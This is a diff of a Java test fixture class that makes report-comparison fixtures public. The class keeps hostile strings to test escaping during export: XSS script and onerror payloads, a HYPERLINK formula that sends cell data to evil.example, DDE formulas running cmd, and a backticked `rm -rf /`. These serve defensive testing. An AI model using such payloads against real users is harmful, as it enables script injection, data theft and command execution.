@@ -28,33 +28,33 @@ import org.wirecheck.text.TextRange;
 import org.wirecheck.text.Witness;
 
 /** Comparisons for the report tests: the samples, the small fixture with sentences, and one full of hostile text. */
-final class ReportFixtures {
+public final class ReportFixtures {
 
     /** The date every expected report carries. */
-    static final Clock CLOCK = Clock.fixed(Instant.parse("2026-01-30T09:15:00Z"), ZoneOffset.UTC);
+    public static final Clock CLOCK = Clock.fixed(Instant.parse("2026-01-30T09:15:00Z"), ZoneOffset.UTC);
 
-    static final ExportOptions OPTIONS = ExportOptions.defaults().withClock(CLOCK);
+    public static final ExportOptions OPTIONS = ExportOptions.defaults().withClock(CLOCK);
 
     /** Hostile strings, each placed in the copies, readings, names or notes of {@link #hostile()}. */
-    static final String SCRIPT = "<script>alert(1)</script>";
-    static final String BREAKOUT = "\"><img src=x onerror=alert(1)>";
-    static final String FORMULA = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";
-    static final String PLUS = "+cmd|' /C calc'!A0";
-    static final String MINUS = "-2+3";
-    static final String AT = "@SUM(1+1)*cmd|' /C calc'!A0";
-    static final String TAB = "\t=1+2";
-    static final String CR = "\r=1+3";
-    static final String PIPES = "| a | b |";
-    static final String BACKTICKS = "`rm -rf /`";
-    static final String LINK = "[click](http://evil.example) ![x](http://evil.example/x.png)";
-    static final String HEADING = "# Not a heading";
-    static final String QUOTES = "He said \"yes\",\nthen \"no\"";
+    public static final String SCRIPT = "<script>alert(1)</script>";
+    public static final String BREAKOUT = "\"><img src=x onerror=alert(1)>";
+    public static final String FORMULA = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";
+    public static final String PLUS = "+cmd|' /C calc'!A0";
+    public static final String MINUS = "-2+3";
+    public static final String AT = "@SUM(1+1)*cmd|' /C calc'!A0";
+    public static final String TAB = "\t=1+2";
+    public static final String CR = "\r=1+3";
+    public static final String PIPES = "| a | b |";
+    public static final String BACKTICKS = "`rm -rf /`";
+    public static final String LINK = "[click](http://evil.example) ![x](http://evil.example/x.png)";
+    public static final String HEADING = "# Not a heading";
+    public static final String QUOTES = "He said \"yes\",\nthen \"no\"";
 
     private ReportFixtures() {
     }
 
     /** The five sample copies compared as the command line compares them (paths "samples/..."). */
-    static Comparison samples() {
+    public static Comparison samples() {
         List<Witness> witnesses = new ArrayList<>();
         try (Stream<Path> files = Files.list(Path.of("samples"))) {
             for (Path p : files.filter(f -> f.toString().endsWith(".txt")).sorted().toList()) {
@@ -69,7 +69,7 @@ final class ReportFixtures {
     }
 
     /** {@link Fixtures#threeCopies()} with each copy's text as one sentence. */
-    static Comparison sentenced() {
+    public static Comparison sentenced() {
         Comparison c = Fixtures.threeCopies();
         List<Copy> copies = new ArrayList<>();
         for (Copy copy : c.copies()) {
@@ -80,7 +80,7 @@ final class ReportFixtures {
     }
 
     /** A review by discrepancy id. */
-    static Review review(Map<String, ReviewEntry> entries) {
+    public static Review review(Map<String, ReviewEntry> entries) {
         return d -> Optional.ofNullable(entries.get(d.id()));
     }
 
@@ -119,7 +119,7 @@ final class ReportFixtures {
      * Two copies whose text, names, readings, summaries, warnings and review notes are made of HTML, Markdown and
      * spreadsheet-formula attacks.
      */
-    static Comparison hostile() {
+    public static Comparison hostile() {
         Text a = new Text("A");
         Text b = new Text("B");
         a.plain(HEADING + " " + SCRIPT).end();
@@ -161,7 +161,7 @@ final class ReportFixtures {
     }
 
     /** A review of {@link #hostile()} whose verdict and note are attacks too. */
-    static Review hostileReview() {
+    public static Review hostileReview() {
         return review(Map.of("D1", new ReviewEntry("=confirmed " + SCRIPT, "note " + BREAKOUT + "\n" + PIPES + " "
                 + FORMULA)));
     }
